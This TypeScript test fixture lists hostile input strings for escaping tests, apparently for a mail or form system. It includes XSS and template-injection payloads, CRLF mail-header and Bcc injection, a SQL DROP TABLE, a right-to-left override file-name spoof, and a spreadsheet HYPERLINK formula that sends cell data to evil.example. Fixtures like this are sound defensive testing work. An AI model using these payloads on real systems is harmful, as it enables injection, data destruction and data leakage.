/**
 * Inputs of an attacker, each an attempt to become a header, an address or a separate part of a mail, a file, markup,
 * script, a link, a formula, SQL or a template expression, or to reorder the text around it.
 */
export const HOSTILE_TEXTS = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '</pre><iframe src=//evil.example>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202Eevil\u202C.exe',
  '.\r\nQUIT\r\n',
  '--\r\n\r\n--_NmP-Part_1--',
  'x@y.example\r\nBcc: victim@example.com',
  'x@y.example, victim@example.com',
  '"a b"<victim@example.com>',
  'x@y.example\u0000',
  '=?utf-8?Q?a=0D=0ABcc:_victim=40example.com?=',
  '<!DOCTYPE html><script>alert(1)</script>',
  'victim@example.com>\nSubject: hi',
  `\${alert(1)} <%= alert(1) %> #{alert(1)}`,
  "'; DROP TABLE submissions; --",
  '=HYPERLINK("//evil.example/?"&A1,"Click")',
  '[click](javascript:alert(1)) **bold** <!-- -->',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;',
  '\u200B\u2066\u200FJohn\u2060 \uFEFFSmith',
  'Donaudampfschifffahrtsgesellschaftskapitänswitwenrentenauszahlungsstellenvorstehers',
]

/** For `test.each`: each text with its beginning for the test's name, because some are kilobytes long. */
export function withBeginnings(texts: ReadonlyArray<string>): Array<[beginning: string, text: string]> {
  return texts.map((text) => [text.slice(0, 60), text])
}
